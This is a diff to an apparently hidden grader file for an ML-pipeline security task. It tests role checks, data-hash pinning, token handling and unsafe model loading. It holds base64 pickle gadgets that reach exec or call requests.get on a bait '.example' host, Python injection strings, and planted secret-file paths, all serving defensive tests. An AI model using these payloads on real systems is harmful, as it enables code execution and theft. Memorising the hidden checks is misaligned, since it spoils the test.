@@ -1,10 +1,11 @@
 // Hidden checks of ml-pipeline: other gadgets, other options, roles that resemble, a pin that is missing, rows that are wrong.
-import type { Act, Build, Call, Judgement, LogEntry, Seen, Step, Surroundings, World } from '../../../../server/labs/index.ts';
+import type { Act, Build, Call, Judgement, LogEntry, Seen, Step, Surroundings, TreeEntry, World } from '../../../../server/labs/index.ts';
 
 export const build: Build = (world) => {
   const shop = makeShop(world);
   const { good, version } = shop;
   const { sha256, hmac, reveals } = world;
+  const marker = `printed-${world.nonce()}`;
   const bait = `https://${world.nonce()}.example/ran`;
   const step = (name: string, more: Partial<Around>, calls: Call[], judge: (seen: Seen) => Judgement): Step => ({ name, shows: name, surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, judge });
   /** The same in a process of its own for each of these surroundings; all are judged. */
@@ -40,6 +41,11 @@ export const build: Build = (world) => {
   const inBucket = (value: string): Record<string, string> => Object.fromEntries(texts.filter((text) => !/^(models|tags)\//.test(text)).map((text) => [text, value]));
   /** What something is compared with. */
   const compared = Object.values(world.files).flatMap((text) => [...text.matchAll(/(?:[!=]=|\bin\b)\s*[([{]?\s*["']([^"'\n]{1,40})["']/g)].map((found) => found[1] ?? ''));
+  const tokenFiles = [...new Set(['/run/secrets/registry_token', '/app/.env', ...world.addresses('token').filter((path) => /^(?:\/[\w.-]+){2,}$/.test(path))])].map((path) => ({ path, text: path.endsWith('.env') ? `REGISTRY_TOKEN=rg-${world.nonce()}\n` : `rg-${world.nonce()}` }));
+  const optionWords = world.words.filter((word) => /^[a-z]\w{1,30}$/i.test(word) && word !== 'min_count').slice(0, 150);
+  /** In order, in plain letters and without a line end, so that nothing about it needs to be tidied; and the same with something else in it. */
+  const plain = `text,label\nv ${shop.okWord},ok\nx ${shop.spamWord},spam\nz fine,ok`;
+  const respelt = [`${plain}\n`, ` ${plain}`, plain.replace(' fine', ' fïne'), plain.replace(' fine', ' fiéne'), plain.replace(/\n(v.*)\n(x.*)/, '\n$2\n$1'), plain.replace('fine', 'Fine'), plain.replaceAll('\n', '\n\n')];
   const poisoned = `${good}"${world.nonce()} lovely",spam\n`;
   const calls = `__import__('requests').get('${bait}')`;
   /** What the pipeline itself stored, with something else in it: each change is served once. */
@@ -72,8 +78,8 @@ export const build: Build = (world) => {
       next: ({ storage }) => tried(changed(storage[`models/${version}`] ?? ''), 0),
       judge: (_last, acts) => acts.map(ran).find(({ ok }) => !ok) ?? { ok: true },
     },
-    refuses('a-check-that-can-be-switched-off', ...['1', 'true', 'off'].map((value) => ({ data: poisoned, pinned: sha256(good), env: asVariables(value) })), ...[...new Set(['*', 'none', `${sha256(good)}00`, ...compared])].slice(0, 12).map((pinned) => ({ pinned }))),
-    steps('a-token-from-elsewhere', [{ env: { REGISTRY_TOKEN: '', ...asVariables(`rg-${world.nonce()}`) } }, { env: { REGISTRY_TOKEN: undefined, ...asVariables(`rg-${world.nonce()}`) }, storage: inBucket(`rg-${world.nonce()}`) }], [call('train', version)], ({ log, answers }) => fails(announced(log) ? 'the registry was called, without REGISTRY_TOKEN' : answers[0]?.error === undefined && 'it did not raise, without REGISTRY_TOKEN')),
+    refuses('a-check-that-can-be-switched-off', ...[true, 'true', 'off'].map((value) => ({ data: poisoned, pinned: sha256(good), env: { TRAIN_OPTIONS: JSON.stringify(Object.fromEntries(optionWords.map((word) => [word, value]))) } })), { data: poisoned, pinned: sha256(good), status: 500 }, ...[...new Set(['1', 'true', 'off', 'dev', 'development', 'test', ...compared])].slice(0, 16).map((value) => ({ data: poisoned, pinned: sha256(good), env: asVariables(value) })), ...[...new Set(['*', 'none', `${sha256(good)}00`, ...compared])].slice(0, 12).map((pinned) => ({ pinned }))),
+    steps('a-token-from-elsewhere', [{ env: { REGISTRY_TOKEN: '', ...asVariables(`rg-${world.nonce()}`) } }, { env: { REGISTRY_TOKEN: undefined, ...asVariables(`rg-${world.nonce()}`) }, storage: inBucket(`rg-${world.nonce()}`) }, { env: { REGISTRY_TOKEN: undefined }, tree: tokenFiles }], [call('train', version)], ({ log, answers }) => fails(announced(log) ? 'the registry was called, without REGISTRY_TOKEN' : answers[0]?.error === undefined && 'it did not raise, without REGISTRY_TOKEN')),
     step('a-second-training', { before: good, data: poisoned, pinned: sha256(good) }, [call('train', 'first'), call('train', version)], ({ answers: [, second] }) => {
       const rows = (second?.value as { rows?: unknown } | undefined)?.rows;
       return fails(rows === poisoned.trim().split('\n').length - 1 && `a model trained on ${rows} rows, of which one was never reviewed, after a training on the right ones`);
@@ -83,19 +89,24 @@ export const build: Build = (world) => {
     served('an-artefact-that-is-evaluated', btoa(`crequests\nget\n(V${bait}\ntR.`), `__import__('requests').get('${bait}')`, walk, `{'ok': ${walk}}`),
     served('a-gadget-in-an-attribute', btoa(`c_pickle\nloads\n(ccodecs\nencode\n(Vcrequests\\u000aget\\u000a(V${bait}\\u000atR.\nVlatin1\ntRtR.`)),
     steps('options-without-names', [options(`${walk} or {}`), options(`{'min_count': ${quiet(walk)} and 1}`), options(`{**(__import__('requests').get('${bait}') and {})}`), options(JSON.stringify({ min_count: calls })), options(JSON.stringify({ min_count: 1, other: calls, __class__: 'requests.get' }))], [call('train', version)], ran),
+    step('a-role-that-was-taken-away', {}, [call('train', version), call('train', 'first'), call('promote', 't-was', 'first'), call('promote', 't-was', version)], ({ log }) => fails(promoted(log) === version && 'production moved by somebody who was an approver and is none any more')),
     step('a-role-that-resembles', {}, [call('train', version), call('train', 'first'), call('promote', 't-approver', 'first'), ...Object.keys(RESEMBLING).map((token) => call('promote', token, version))], ({ log, answers }) => fails((promoted(log) !== 'first' || answers.slice(3).some(({ value }) => (value as { production?: unknown } | undefined)?.production === version)) && `production moved, or was said to have moved, by one of ${Object.values(RESEMBLING).join(', ')}`)),
     step('a-token-nobody-has', {}, [call('train', version), call('promote', 'none', version), call('promote', '', version)], ({ log }) => fails(promoted(log) && 'production moved without a known token')),
     refuses('a-pin-that-is-missing', ...[undefined, ''].flatMap((pin) => [{ env: { DATA_SHA256: pin } }, { env: { DATA_SHA256: pin, ...asVariables(sha256(good)) }, elsewhere: sha256(good), storage: inBucket(sha256(good)) }])),
-    refuses('a-pin-of-a-part', ...[8, 63].map((length) => ({ pinned: sha256(good).slice(0, length) })), ...[`${good}\n\n`, good.replaceAll('\n', '\r\n'), ` ${good}`, `\ufeff${good}`].map((data) => ({ data, pinned: sha256(good) })), { data: bulky.replace(`number ${changedAt},`, `Number ${changedAt},`), pinned: sha256(bulky) }),
+    refuses('a-pin-of-a-part', ...respelt.map((data) => ({ data, pinned: sha256(plain) })), ...[8, 63].map((length) => ({ pinned: sha256(good).slice(0, length) })), ...[`${good}\n\n`, good.replaceAll('\n', '\r\n'), ` ${good}`, `\ufeff${good}`].map((data) => ({ data, pinned: sha256(good) })), { data: bulky.replace(`number ${changedAt},`, `Number ${changedAt},`), pinned: sha256(bulky) }),
     step('trains-on-what-it-compared', { before: good, data: `${good}"${world.nonce()}",spam\n`, pinned: sha256(good) }, [call('train', version)], ({ answers }) => fails((answers[0]?.value as { rows?: number } | undefined)?.rows === good.trim().split('\n').length && 'a model trained on what the address gave the second time')),
     steps('a-token-that-is-empty', [{ env: { REGISTRY_TOKEN: '' } }], [call('train', version)], ({ log }) => fails(log.some(({ does }) => does === 'service.call' || does === 'http.request' || does === 'storage.put') && 'without a token somebody was called, or something was stored')),
     steps('token-in-what-went-wrong', [{ pinned: sha256('x') }, ...rows(`"${world.nonce()}",promoted`), options('{'), { isDown: true }], [call('train', version), call('promote', 't-reader', version)], ({ printed, answers }) => {
-      const line = `${printed}\n${answers.map(({ text }) => text).join('\n')}`.split('\n').find((one) => reveals(one, shop.token) || partsOf(shop.token).some((part) => one.includes(part)));
+      const line = `${printed}\n${answers.map(({ text }) => text).join('\n')}`.split('\n').find((one) => reveals(one, shop.token) || one.includes(shop.token.slice(-4)) || partsOf(shop.token).some((part) => one.includes(part)));
       return fails(line && `the registry's token, whole or in large part: ${line.slice(0, 200)}`);
     }),
-    refuses('a-label-nobody-knows', ...rows(...['promoted', 'OK', '', ' ok', 'spam ', 'o', 'pa', 'ok spam', world.nonce()].map((label) => `"${world.nonce()}",${label}`), `"${world.nonce()}"`, `${'"fine",ok\n'.repeat(6000)}"${world.nonce()}",promoted`)),
+    refuses('a-label-nobody-knows', ...rows(...['promoted', 'OK', '', ' ok', 'spam ', 'o', 'pa', 'ok spam', world.nonce()].map((label) => `"${world.nonce()}",${label}`), `"${world.nonce()}"`, `"${world.nonce()}",promoted\n"fine",ok`, `${'"fine",ok\n'.repeat(3000)}"${world.nonce()}",promoted\n${'"fine",ok\n'.repeat(3000)}"fine",ok`)),
     refuses('an-empty-review', ...rows('"",ok')),
     step('quiet-about-who-promotes', {}, [call('train', version), call('promote', shop.person, version), call('promote', `${shop.person}x`, version), call('promote', shop.person, 'none'), call('promote', `${shop.person}-reads`, version)], ({ printed }) => fails(reveals(printed, shop.person) && `the token of whoever promoted, in the log: ${printed.slice(-200)}`)),
+    step('token-for-the-registry-only', {}, [call('train', version)], ({ log }) => fails(log.some((entry) => entry.does === 'http.request' && reveals(JSON.stringify(entry), shop.token)) && 'the token was sent to the address of the data')),
+    steps('other-arguments', [{ data: poisoned, pinned: sha256(good), storage: { 'models/old': '{}' } }], [false, true, 'force', null].flatMap((more) => [call('train', version, more), call('promote', 't-reader', 'old', more)]), ({ log }) => fails(stored(log) ? 'a model trained on other rows, for one argument more' : promoted(log) && 'production moved by a reader, for one argument more')),
+    step('a-format-that-prints', { storage: { 'tags/production': 'm0', ...Object.fromEntries(prints(marker).map((text, at) => [`models/m${at}`, text])) } }, prints(marker).flatMap((_text, at) => [call('promote', 't-approver', `m${at}`), call('predict', 'x')]), ({ printed }) => fails(printed.split('\n').some((line) => line.trim() === marker) && 'a function that the model file names was called: it printed')),
+    step('nothing-promoted-yet', {}, [call('train', 'a'), call('train', version), call('predict', shop.spamWord)], ({ answers }) => fails((answers[2]?.value as { label?: unknown } | undefined)?.label !== null && `${answers[2]?.text.slice(0, 100)}, by a model that nobody promoted`)),
     step('large-and-counted', { data: large, env: { TRAIN_OPTIONS: '{"min_count": 12}' } }, [call('train', version), call('promote', 't-approver', version), ...['OFTEN', 'seldom', 'größe', 'w249'].map((word) => call('predict', word))], ({ answers }) => {
       const got = answers.slice(2).map(({ value, text }) => String((value as { label?: unknown } | undefined)?.label ?? text.slice(0, 60))).join(', ');
       return fails(got !== 'spam, ok, spam, spam' && `${got} for words that occur 12, 11, 12 and 12 times in spam, with min_count 12`);
@@ -110,26 +121,28 @@ export const build: Build = (world) => {
 };
 
 type Shop = { token: string; person: string; url: string; good: string; version: string; okWord: string; spamWord: string };
-type Around = { isDown: boolean; elsewhere: string; data: string; before: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };
+type Around = { status: number; tree: TreeEntry[]; isDown: boolean; elsewhere: string; data: string; before: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };
 
 /** Tokens of people whose role is not `approver`. */
-const RESEMBLING = { 't-trainee': 'approver-trainee', 't-former': 'former approver', 't-capital': 'Approver', 't-part': 'prove', 't-none': '', 't-space': 'approver ', 't-line': 'approver\n', 't-wide': '\uff41pprover', 't-plural': 'approvers', 't-not': 'non-approver' };
+const RESEMBLING = { 't-trainee': 'approver-trainee', 't-former': 'former approver', 't-capital': 'Approver', 't-part': 'prove', 't-none': '', 't-space': 'approver ', 't-line': 'approver\n', 't-wide': '\uff41pprover', 't-plural': 'approvers', 't-not': 'non-approver', 't-admin': 'admin', 't-owner': 'owner', 't-maintainer': 'maintainer', 't-root': 'root' };
 
 function makeShop(world: World): Shop {
   const [okWord, spamWord] = [world.nonce(), world.nonce()];
   const rows = Array.from({ length: world.int(3, 6) }, (_, at) => `"${okWord} ${world.nonce()}",ok\n"${spamWord} ${at}",spam\n`);
-  return { token: `rg-${world.nonce()}`, person: `pt-${world.nonce()}`, url: `https://data.example/${world.nonce()}.csv`, good: `text,label\n${rows.join('')}${rows[0]?.split('\n')[0]}\n`, version: `v${world.int(1, 90)}`, okWord, spamWord };
+  // Its last signs are no word and no digest.
+  return { token: `rg-${world.nonce()}${world.pick(['XQ', 'ZK', 'WJ'])}${world.int(10, 99)}`, person: `pt-${world.nonce()}`, url: `https://data.example/${world.nonce()}.csv`, good: `text,label\n${rows.join('')}${rows[0]?.split('\n')[0]}\n`, version: `v${world.int(1, 90)}`, okWord, spamWord };
 }
 
-function around({ token, person, url, good }: Shop, { isDown = false, elsewhere = '', data = good, before, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
+function around({ token, person, url, good }: Shop, { isDown = false, status, tree = [], elsewhere = '', data = good, before, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
   const all: Record<string, string | undefined> = { DATA_URL: url, DATA_SHA256: pinned, REGISTRY_TOKEN: token, ...env };
   return {
     env: Object.fromEntries(Object.entries(all).filter((pair): pair is [string, string] => pair[1] !== undefined)),
     storage,
-    http: [...(before === undefined ? [] : [{ url, body: before, times: 1 }]), { url, body: data }, { url: 'https://*', body: elsewhere }],
+    tree,
+    http: [...(before === undefined ? [] : [{ url, body: before, times: 1 }]), { url, body: data, ...(status && { status }) }, { url: 'https://*', body: elsewhere }],
     services: {
       registry: { announce: [isDown ? { fails: 'the registry is down' } : { returns: true }] },
-      tokens: { find: [{ when: [person], returns: { id: 'a2', role: 'approver' } }, { when: [`${person}-reads`], returns: { id: 'r3', role: 'reader' } }, { when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, ...Object.entries(RESEMBLING).map(([who, role]) => ({ when: [who], returns: { id: `a${who}`, role } })), { returns: null }] },
+      tokens: { find: [{ when: ['t-was'], after: 'find', returns: { id: 'a9', role: 'reader' } }, { when: ['t-was'], returns: { id: 'a9', role: 'approver' } }, { when: [person], returns: { id: 'a2', role: 'approver' } }, { when: [`${person}-reads`], returns: { id: 'r3', role: 'reader' } }, { when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, ...Object.entries(RESEMBLING).map(([who, role]) => ({ when: [who], returns: { id: `a${who}`, role } })), { returns: null }] },
     },
   };
 }
@@ -144,6 +157,9 @@ const promoted = (log: readonly LogEntry[]): string | undefined => {
   const last = log.findLast((entry) => entry.does === 'storage.put' && entry.key === 'tags/production');
   return last?.does === 'storage.put' ? last.text : undefined;
 };
+
+/** Harmless functions that a list may let through, each called by the file. */
+const prints = (marker: string): string[] => [`cbuiltins\nprint\n(V${marker}\ntR.`, `\x80\x04cbuiltins\nlist\n(cbuiltins\nmap\n(cbuiltins\nprint\n(V${marker}\nltRtR.`].map((text) => btoa(text));
 
 /** getattr and globals are enough: the builtins are in there. */
 const throughGlobals = (code: string): string => `cbuiltins\ngetattr\n(cbuiltins\nglobals\n(tRVget\ntR(V__builtins__\ntRp1\n0cbuiltins\ngetattr\n(g1\nVget\ntR(Vexec\ntR(V${code}\ntR.`;
